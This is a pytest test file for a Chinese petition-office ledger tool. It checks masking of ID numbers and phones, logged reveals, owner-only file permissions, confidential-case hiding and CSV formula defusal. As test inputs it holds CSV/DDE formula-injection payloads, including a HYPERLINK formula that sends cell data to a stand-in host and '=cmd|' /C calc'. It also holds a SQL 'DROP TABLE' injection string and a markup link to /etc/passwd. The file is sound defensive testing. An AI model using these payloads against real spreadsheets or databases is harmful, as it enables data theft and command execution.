"""Personal data and safety (DOMAIN.md §8): the ledger and its copies are private files; no
command shows a full ID number or phone unless asked (--reveal, --with-pii), and every
reveal is recorded with the officer; exported cells never run as Excel formulas; text with
SQL or Rich markup characters is kept and shown exactly as typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import sqlite3
import stat

import pytest
from rich.console import Console
from robust import (
    ID_A,
    ID_B,
    ID_C,
    LANDLINE,
    PHONE_A,
    PHONE_B,
    TODAY,
    cli,
    count,
    no_traceback,
    ok,
    seed,
)

from xinfang import acts, reports
from xinfang.cases.intake import make_intake, make_person
from xinfang.render import terminal as output
from xinfang.store import writer
from xinfang.store.ledger import Ledger

SECRETS = (ID_A, ID_B, ID_C, PHONE_A, PHONE_B, LANDLINE, LANDLINE.split("-")[1])
HEADER = ["序号", "登记日期", "姓名", "身份证号", "联系电话", "住址", "信访形式", "人数",
          "问题属地", "问题类别", "诉求摘要", "转送单位", "办理结果", "办结日期"]


@pytest.fixture
def run(monkeypatch):
    return cli(monkeypatch)


@pytest.fixture
def cases(ledger) -> dict[str, str]:
    return seed(ledger)


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def revealed(db_path) -> list[tuple[str, str, str]]:
    conn = sqlite3.connect(db_path)
    try:
        return conn.execute(
            "SELECT c.number, e.officer, e.details FROM events e JOIN cases c ON c.id = e.case_id "
            "WHERE e.kind = 'revealed' ORDER BY e.id").fetchall()
    finally:
        conn.close()


# Files ---------------------------------------------------------------------------------


def test_the_ledger_and_every_copy_are_readable_by_the_owner_only(run, tmp_path, db_path):
    os.umask(0o022)  # the usual default: new files would be world-readable
    ok(run("office", "set", "YQH", "鱼邱湖街道信访办"))
    assert mode(db_path) == 0o600
    ok(run("register", "--name", "张三", "--id-number", ID_A, "--phone", PHONE_A,
           "--channel", "来访", "--content", "拖欠工资", "--on", "2026-10-01"))
    ledger = Ledger.open(db_path, create=False)  # open: the -wal and -shm files exist now
    try:
        for suffix in ("-wal", "-shm"):
            assert mode(f"{db_path}{suffix}") == 0o600, suffix
    finally:
        ledger.close()
    ok(run("backup", tmp_path / "copy.db"))
    assert mode(tmp_path / "copy.db") == 0o600
    ok(run("report", "overdue"))
    assert mode(f"{db_path}.report-lock") == 0o600
    ok(run("restore", tmp_path / "copy.db", "--yes"))
    assert mode(db_path) == 0o600
    kept = [p for p in tmp_path.iterdir() if ".before-restore-" in p.name]
    assert kept and all(mode(p) == 0o600 for p in kept)
    demo = tmp_path / "demo.db"
    ok(run("demo", "--db", demo))
    assert mode(demo) == 0o600
    other = tmp_path / "sub" / "other.db"
    ok(run("office", "set", "YQH", "x", "--db", other))
    assert mode(other) == 0o600


@pytest.mark.parametrize("args", [["export", "-o", "{db}"], ["export", "--events", "-o", "{db}"],
                                  ["import", "{register}", "--rejects", "{db}"]])
def test_an_export_is_never_written_over_the_ledger(cases, run, db_path, tmp_path, args):
    """`-o` naming the ledger (a slip of the hand) replaced it with CSV: all data gone."""
    before = db_path.read_bytes()
    register = register_file(tmp_path)
    result = run(*[str(a).replace("{db}", str(db_path)).replace("{register}", str(register))
                   for a in args])
    no_traceback(result)
    assert result.exit_code == 2 and "错误：" in result.stderr
    assert db_path.read_bytes()[:16] == b"SQLite format 3\x00"
    assert len(db_path.read_bytes()) >= len(before) // 2
    ok(run("check"))


# Masking -------------------------------------------------------------------------------


def register_file(tmp_path):
    """A register whose refused rows hold ID numbers and phones: the summary and its JSON
    say why a row was refused without repeating them."""
    rows = [
        ["1", "2026-13-45", "甲", ID_A, PHONE_A, "x", "来访", "1", "", "城乡建设", "a", "", "", ""],
        ["2", "2026-01-04", "乙", ID_B, f"{PHONE_A}/{PHONE_B}", "x", "来访", "1", "", "城乡建设",
         "b", "", "", ""],
        ["3", "2026-01-04", "丙", ID_A[:-1] + "0", PHONE_B, "x", "来访", "1", "", "城乡建设", "c",
         "", "", ""],
        ["4", "2026-01-04", "丁", ID_C, LANDLINE, "x", "飞鸽", "1", "", "城乡建设", "d", "", "", ""],
        ["5", "2026-01-04", "戊", ID_C + "1", f"{LANDLINE}、{PHONE_B}", "x", "来访", "1", "",
         "城乡建设", "e", "", "", ""],
        ["6", "2026-01-05", "己", ID_B, PHONE_B, "x", "来访", "1", "", "城乡建设", "f", "人社局",
         "", ""],
        ["7", "2026-01-05", "己", ID_B, PHONE_B, "x", "来访", "1", "", "城乡建设", "f", "人社局",
         "", ""],
        ["8", "2026-01-06", "庚", "", f"{PHONE_A} {PHONE_B}", "x", "来访", "1", "", "城乡建设", "g",
         "", "", ""],
        ["9", "2026-01-06", "辛", "", "", "x", "来访", "1", "", "城乡建设", "h", "", "", "", "多",
         ID_A],
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows(rows)
    path = tmp_path / "登记簿.csv"
    path.write_bytes(buffer.getvalue().encode("gbk"))
    return path


def commands(cases: dict[str, str], tmp_path) -> list[list[str]]:
    out: list[list[str]] = []
    for number in cases.values():
        out += [["show", number], ["show", number, "--json"], ["show", number, "--lang", "en"],
                ["deadline", number], ["deadline", number, "--json"], ["repeats", number],
                ["repeats", number, "--json"]]
    register = register_file(tmp_path)
    out += [
        ["list"], ["list", "--json"], ["list", "--lang", "en"], ["list", "--person", ID_A],
        ["list", "--person", "张三", "--json"], ["list", "--overdue"], ["list", "--repeat"],
        ["report", "overdue"], ["report", "overdue", "--format", "md"],
        ["report", "overdue", "--format", "csv"], ["report", "overdue", "--format", "json"],
        ["report", "major"], ["report", "major", "--json"], ["report", "stats"],
        ["report", "stats", "--json"], ["report", "stats", "--by", "unit"],
        ["repeats"], ["repeats", "--json"],
        ["export"], ["export", "--format", "excel"], ["export", "--json"],
        ["export", "--encoding", "gbk"], ["export", "--events"], ["export", "--events", "--json"],
        ["export", "--case", cases["confidential"]], ["export", "-o", tmp_path / "out.csv"],
        ["info"], ["info", "--json"], ["unit", "list"], ["check"], ["check", "--json"],
        ["import", register, "--dry-run"], ["import", register, "--dry-run", "--json"],
        ["import", register, "--lang", "en"], ["import", register, "--json"],
        ["import", register],
        ["register", "--name", "张三", "--id-number", ID_A, "--phone", PHONE_A, "--channel",
         "来访", "--content", "工地拖欠工资"],
        ["register", "--name", "张三", "--id-number", ID_A, "--phone", PHONE_A, "--channel",
         "来访", "--content", "工地拖欠工资", "--json"],
        ["register", "--name", "李四", "--id-number", ID_A[:-1] + "0", "--channel", "来访",
         "--content", "x"],
        ["register", "--name", "李四", "--phone", f"{PHONE_A}/{PHONE_B}", "--channel", "来访",
         "--content", "x"],
        ["register", "--name", "李四", "--person", f"王五,{ID_C},{PHONE_A}，{PHONE_B}",
         "--channel", "来访", "--content", "x"],
        ["note", cases["registered"], "电话联系", "--json"],
        ["forward", cases["registered"], "--to", "人社局"],
        ["accept", cases["forwarded"], "--json"],
        ["close", cases["accepted"], "--result", "resolved", "--opinion", "已办结"],
    ]
    return out


def test_no_command_shows_a_full_id_number_or_phone_unasked(cases, run, tmp_path, db_path):
    # The fields are there to leak: shown masked.
    shown = run("show", cases["registered"]).stdout
    assert "371526********8579" in shown and "138****5678" in shown
    assert "0635-***8013" in run("show", cases["accepted"]).stdout
    leaks = []
    tried = 0
    for args in commands(cases, tmp_path):
        result = run(*args)
        no_traceback(result)
        tried += 1
        text = result.stdout + result.stderr
        if args[:2] == ["export", "-o"] or "-o" in args:
            text += (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
        leaks += [(args, secret) for secret in SECRETS if secret in text]
    assert leaks == []
    assert revealed(db_path) == []  # nothing was revealed, so nothing is recorded
    assert tried >= 80


def test_show_reveal_is_recorded_with_the_officer(cases, run, db_path):
    number = cases["registered"]
    result = run("show", number, "--reveal", "--officer", "王专干")
    assert result.exit_code == 0, result.stderr
    assert ID_A in result.stdout and PHONE_A in result.stdout
    [(case, officer, details)] = revealed(db_path)
    assert (case, officer) == (number, "王专干")
    assert json.loads(details) == {"fields": ["id_number", "phone"], "command": "show"}
    record = json.loads(ok(run("show", number, "--reveal", "--json")))
    assert record["people"][0]["id_number"] == ID_A
    assert record["events"][-1]["kind"] == "revealed"
    assert record["events"][-1]["officer"] == "测试员"  # from XINFANG_OFFICER
    assert len(revealed(db_path)) == 2
    # The history shows it to the next reader, masked again.
    plain = ok(run("show", number))
    assert ID_A not in plain and "王专干" in plain


def test_list_reveal_records_each_case_shown(cases, run, db_path):
    result = run("list", "--reveal", "--json", "--officer", "王专干", "--limit", "3")
    assert result.exit_code == 0, result.stderr
    shown = [record["id"] for record in json.loads(result.stdout)]
    assert len(shown) == 3
    assert sorted(case for case, _, _ in revealed(db_path)) == sorted(shown)
    assert {officer for _, officer, _ in revealed(db_path)} == {"王专干"}


def test_export_with_pii_is_recorded_and_leaves_confidential_cases_out(cases, run, db_path):
    result = run("export", "--with-pii", "--json", "--officer", "王专干")
    assert result.exit_code == 0, result.stderr
    exported = json.loads(result.stdout)
    numbers = {record["id"] for record in exported}
    assert cases["confidential"] not in numbers
    assert ID_A in result.stdout and PHONE_B in result.stdout
    assert "保密" in result.stderr  # says a confidential case was left out
    assert {case for case, _, _ in revealed(db_path)} == numbers
    assert all(officer == "王专干" and json.loads(d)["command"] == "export"
               for _, officer, d in revealed(db_path))


# Formulas ------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "@SUM(1+1)", "+1+1", "-2+3",
            "=cmd|' /C calc'!A0", "\t=2+2", "\r=3+3"]


def formula_cells(data: str) -> list[str]:
    bad = []
    for row in csv.reader(io.StringIO(data, newline="")):
        for cell in row:
            if re.fullmatch(r"-?[0-9]+", cell):
                continue  # a number (days left: -46) is read as a number, never run
            if cell[:1] in ("=", "+", "-", "@"):
                bad.append(cell)
            # A tab or CR first is a formula start too, unless it keeps a long number text.
            elif cell[:1] in ("\t", "\r") and not re.fullmatch(r"[\t\r][0-9Xx*]+", cell):
                bad.append(cell)
    return bad


def test_exported_cells_never_start_a_formula(ledger, run, tmp_path):
    for text in FORMULAS:
        writer.add_unit(ledger, text, "县区")
    numbers = []
    for i, text in enumerate(FORMULAS):
        intake = make_intake(channel="来访", content=text, received_on=dt.date(2026, 9, 1 + i),
                             today=TODAY, people=[make_person(text, ID_A, PHONE_A, text)],
                             locality=text, request=text)
        numbers.append(acts.register(ledger, intake, officer="测试员", not_repeat=True).number)
    for number, text in zip(numbers, FORMULAS, strict=True):
        ok(run("forward", number, "--to", text, "--on", "2026-09-20"))
        ok(run("escalate", number, "--leader", text, "--reason", text))
        ok(run("note", number, "--", text))
    outputs = {}
    for args in (["export"], ["export", "--format", "excel"], ["export", "--encoding", "gbk"],
                 ["export", "--events"], ["export", "--with-pii", "--format", "excel"],
                 ["report", "overdue", "--format", "csv"]):
        result = run(*args)
        assert result.exit_code == 0, result.stderr
        outputs[" ".join(args)] = result.stdout_bytes.decode(
            "gbk" if "gbk" in args else "utf-8-sig")
    for name, data in outputs.items():
        assert formula_cells(data) == [], name
        assert "HYPERLINK" in data, name  # the text is there, only defused
    # Imported back, the guard comes off: the ledger's text is the text typed.
    back = tmp_path / "back.csv"
    back.write_bytes(run("export", "--with-pii").stdout_bytes)  # masked IDs are refused
    other = tmp_path / "other.db"
    ok(run("office", "set", "YQH", "x", "--db", other))
    summary = json.loads(ok(run("import", back, "--db", other, "--json")))
    assert summary["added"] == len(FORMULAS), summary
    contents = {r["content"] for r in json.loads(ok(run("list", "--db", other, "--json")))}
    assert contents == {text.strip() for text in FORMULAS}


# Text as typed -------------------------------------------------------------------------

MARKUP = {
    "content": "[b]粗[/b][red]红[/red]",  # 20 characters: `list` shows it whole
    "request": "'; DROP TABLE cases;-- [/]",
    "locality": "50%_村\\",
    "name": "[bold]张三[/]",
    "note": "[link=file:///etc/passwd]点这里[/link] 100%",
    "unit": "[i]人社局[/i]",
    "leader": "[red]李书记",
}


@pytest.fixture
def marked(ledger, run) -> str:
    ok(run("unit", "add", MARKUP["unit"], "--level", "县区"))
    result = run("register", "--name", MARKUP["name"], "--id-number", ID_B, "--channel", "来访",
                 "--content", MARKUP["content"], "--request", MARKUP["request"], "--locality",
                 MARKUP["locality"], "--headcount", "30", "--on", "2026-10-08", "--json")
    number = json.loads(ok(result))["id"]
    ok(run("note", number, MARKUP["note"]))
    ok(run("forward", number, "--to", MARKUP["unit"], "--on", "2026-10-09"))
    ok(run("escalate", number, "--leader", MARKUP["leader"], "--reason", "集体访"))
    # A plain case besides, so a search that matched everything would show.
    ok(run("register", "--name", "王五", "--channel", "来访", "--content", "道路破损",
           "--locality", "东村", "--on", "2026-11-01"))
    return number


def test_markup_and_sql_are_stored_and_shown_as_typed(marked, run, db_path):
    assert count(db_path, "SELECT count(*) FROM cases") == 2  # no table was dropped
    show = ok(run("show", marked))
    for key in ("content", "request", "locality", "name", "note", "unit", "leader"):
        assert MARKUP[key] in show, key
    record = json.loads(ok(run("show", marked, "--json")))
    assert (record["content"], record["request"], record["locality"], record["unit"]) == (
        MARKUP["content"], MARKUP["request"], MARKUP["locality"], MARKUP["unit"])
    assert record["people"][0]["name"] == MARKUP["name"]
    assert MARKUP["content"] in ok(run("list"))  # the petitioner column is cut to 10 cells
    [listed] = [r for r in json.loads(ok(run("list", "--json"))) if r["id"] == marked]
    assert listed["people"][0]["name"] == MARKUP["name"]
    assert MARKUP["unit"] in ok(run("unit", "list"))
    assert MARKUP["content"] in ok(run("report", "major"))
    for fmt in ("text", "md", "json", "csv"):
        report = ok(run("report", "overdue", "--format", fmt, "--as-of", "2026-11-23"))
        assert MARKUP["unit"] in report or json.dumps(MARKUP["unit"]) in report, fmt
        assert MARKUP["leader"] in report or fmt == "csv", fmt
    assert MARKUP["unit"] in ok(run("report", "stats", "--by", "unit"))
    assert MARKUP["content"] in ok(run("export"))


@pytest.mark.parametrize("search", ["'; DROP", "[b]粗", "%_", "[/]", "\\", "100%"])
def test_search_text_with_sql_and_markup_characters_finds_only_its_case(marked, run, search):
    """LIKE wildcards, quotes and full-text syntax in a search are plain characters."""
    found = json.loads(ok(run("list", "--search", search, "--json")))
    expected = [marked] if any(search in MARKUP[k] for k in ("content", "request")) else []
    assert [r["id"] for r in found] == expected, search


def test_the_terminal_overdue_report_shows_unit_names_as_typed(ledger, run, db_path):
    """At a terminal the report is drawn with Rich tables titled by unit: a unit named
    `[/]…` (from an imported register) crashed it, `[i]…[/i]` lost its brackets."""
    for name in ("[/]人社局", MARKUP["unit"]):
        ok(run("unit", "add", name, "--level", "县区"))
        number = json.loads(ok(run("register", "--name", "张三", "--channel", "来访",
                                   "--content", "拖欠工资", "--on", "2026-09-01", "--json")))["id"]
        ok(run("forward", number, "--to", name, "--on", "2026-09-02"))
    report = reports.overdue(Ledger.open(db_path, create=False), TODAY)
    console = Console(file=io.StringIO(), width=200, force_terminal=True, color_system=None)
    console.print(output.overdue_tables(report, "zh"))
    drawn = console.file.getvalue()
    assert "[/]人社局" in drawn and MARKUP["unit"] in drawn


def test_export_and_rejects_files_are_readable_by_the_owner_only(run, tmp_path, db_path):
    os.umask(0o022)
    ok(run("office", "set", "YQH", "鱼邱湖街道信访办"))
    ok(run("register", "--name", "张三", "--id-number", ID_A, "--phone", PHONE_A,
           "--channel", "来访", "--content", "拖欠工资", "--on", "2026-10-01"))
    ok(run("export", "--with-pii", "-o", tmp_path / "all.csv"))
    assert mode(tmp_path / "all.csv") == 0o600
    register = tmp_path / "register.csv"
    register.write_text("序号,登记日期,姓名,身份证号,诉求摘要,信访形式\n1,2026-10-02,李四,"
                        "3.60803E+17,路灯不亮,来访\n", encoding="utf-8")
    run("import", register, "--rejects", tmp_path / "rejects.csv")
    assert (tmp_path / "rejects.csv").exists()
    assert mode(tmp_path / "rejects.csv") == 0o600


# Confidential (检举控告) cases through every reader ----------------------------------------

SECRET_TEXT = "检举村主任侵占扶贫款"


def _confidential_chain(run):
    """A confidential case and its repeat (the same person and matter), and a third case
    that repeats an ordinary case — with the whistle-blower's name and the accusation."""
    first = json.loads(ok(run("register", "--name", "孙举报", "--id-number", ID_C, "--channel",
                              "来信", "--category", "纪检监察", "--content", SECRET_TEXT,
                              "--confidential", "--on", "2026-10-01", "--json")))["id"]
    again = run("register", "--name", "孙举报", "--id-number", ID_C, "--channel", "来访",
                "--category", "纪检监察", "--content", SECRET_TEXT + "（再次反映）",
                "--on", "2026-11-01", "--json")
    ok(again)
    return first, json.loads(again.stdout)


def test_confidential_content_reaches_no_reader_of_several_cases(ledger, run, tmp_path):
    """Before: `repeats`, `repeats --json` and `repeats CASE` printed a confidential case's
    accusation (`report major` masked it). Now one rule, in every reader: lists, search,
    repeat chains, the nightly report, exports — the case is there, what it says and who
    brought it are not. A repeat of a confidential case is confidential too."""
    first, repeat = _confidential_chain(run)
    assert repeat["confidential"] is True and repeat["repeat_of"] == first
    for args in (["repeats"], ["repeats", "--json"], ["repeats", first], ["repeats", first, "--json"],
                 ["list"], ["list", "--json"], ["list", "--search", "扶贫"],
                 ["list", "--search", "扶贫", "--json"], ["report", "overdue"],
                 ["report", "overdue", "--format", "json"], ["report", "major"],
                 ["report", "stats", "--by", "category"], ["export"], ["export", "--events"],
                 ["export", "--format", "json"]):
        result = run(*args)
        no_traceback(result)
        text = result.stdout + result.stderr
        assert SECRET_TEXT not in text and "孙举报" not in text, (args, text[:400])
    listed = json.loads(ok(run("list", "--search", "扶贫", "--json")))
    assert {case["id"] for case in listed} == {first, repeat["id"]}  # found, not shown
    assert all(case["content"] == "（保密）" for case in listed)
    assert all(person["name"] == "孙**" for case in listed for person in case["people"])
    # Named by number, it is exported (the officer's decision), and that is recorded.
    named = ok(run("export", "--case", first))
    assert SECRET_TEXT in named
    exported = ledger.db.execute(
        "SELECT count(*) FROM events e JOIN cases c ON c.id = e.case_id "
        "WHERE c.number = ? AND e.kind = 'exported'", [first]).fetchone()[0]
    assert exported == 1


def test_a_repeat_of_a_confidential_case_does_not_name_it_in_an_export(ledger, run):
    first = json.loads(ok(run("register", "--name", "孙举报", "--id-number", ID_C, "--channel",
                              "来信", "--category", "纪检监察", "--content", SECRET_TEXT,
                              "--confidential", "--on", "2026-10-01", "--json")))["id"]
    # Linked by hand and said to be not confidential: an ordinary case in the export …
    ordinary = json.loads(ok(run("register", "--name", "周普通", "--channel", "来访",
                                 "--content", "村道破损", "--repeat-of", first,
                                 "--on", "2026-11-01", "--json")))
    assert ordinary["confidential"] is True  # … proposed confidential all the same
    rows = list(csv.DictReader(io.StringIO(ok(run("export", "--case", ordinary["id"])))))
    assert rows[0]["保密"] == "是"


def test_the_confidential_flag_survives_an_export_and_an_import(ledger, run, tmp_path):
    """Before: the flag was lost in a CSV round trip."""
    first, repeat = _confidential_chain(run)
    ok(run("register", "--name", "周普通", "--channel", "来访", "--content", "村道破损",
           "--on", "2026-11-02"))
    out = tmp_path / "全部.csv"
    ok(run("export", "--case", first, "--case", repeat["id"], "--case", "2026-3",
           "--with-pii", "-o", out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [row["保密"] for row in rows] == ["是", "是", ""]
    other = tmp_path / "另一个台账.db"
    ok(run("office", "set", "LCZ", "另一个办", "--db", other))
    ok(run("import", out, "--db", other))
    flags = dict(sqlite3.connect(other).execute("SELECT content, confidential FROM cases"))
    assert flags == {SECRET_TEXT: 1, SECRET_TEXT + "（再次反映）": 1, "村道破损": 0}


# Phones and ID numbers in messages ------------------------------------------------------

@pytest.mark.parametrize("cell", ["139 8765 4321 x", "138 8765 4321 转 8",
                                  "+86 139-8765-4321 x", "139876543210"])
def test_a_refused_phone_is_masked_on_the_screen_and_in_the_rejects_file(
        run, tmp_path, db_path, cell):
    """However the digits of a phone are spaced or followed, the refusal shows them
    masked (first three and last four): on the screen, in --json and in the rejects
    file's reasons. The rejected cell itself stays in the rejects file, to be corrected."""
    ok(run("office", "set", "YQH", "鱼邱湖街道信访办"))
    register = tmp_path / "register.csv"
    with register.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["序号", "登记日期", "姓名", "联系电话", "诉求摘要", "信访形式"],
                                   ["1", "2026-10-02", "李四", cell, "路灯不亮", "来访"]])
    shown = run("import", register, "--rejects", tmp_path / "rejects.csv")
    as_json = run("import", register, "--dry-run", "--json")
    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig", newline="") as rejects:
        rows = list(csv.DictReader(rejects))
    assert len(rows) == 1 and rows[0]["联系电话"].lstrip("'\t") == cell
    reasons = [value for key, value in rows[0].items() if key != "联系电话"]
    for text in (shown.stdout + shown.stderr, as_json.stdout + as_json.stderr, *reasons):
        runs = [re.sub(r"\D", "", run) for run in re.findall(r"\d(?:[\s\-.]*\d)*", text)]
        assert not [run for run in runs if "8765" in run], text
    assert "****" in shown.stdout + shown.stderr


def test_every_message_masks_digits_that_could_be_a_phone_but_keeps_dates_numbers_and_paths():
    from xinfang.errors import BadPerson, LedgerMissing
    from xinfang.masking import mask_phones_in
    from xinfang.registers.rows import Reason

    assert mask_phones_in("XF-YQH-2026-00042 于 2026-01-04 来电 13987654321") == \
        "XF-YQH-2026-00042 于 2026-01-04 来电 139****4321"
    assert mask_phones_in("身份证 11010519491231002X，共 100000 行") == \
        "身份证 110**********1002X，共 100000 行"
    person = BadPerson(text="王五,139 8765 4321 x")
    assert "8765" not in person.message("zh") and "8765" not in person.message("en")
    reason = Reason("bad_person", {"error": BadPerson(text="王五 +86 139-8765-4321")})
    assert "8765" not in reason.text("zh")
    kept = "/data/before-restore-20261201-101530-1234567/台账.db"
    assert kept in LedgerMissing(path=kept).message("zh")
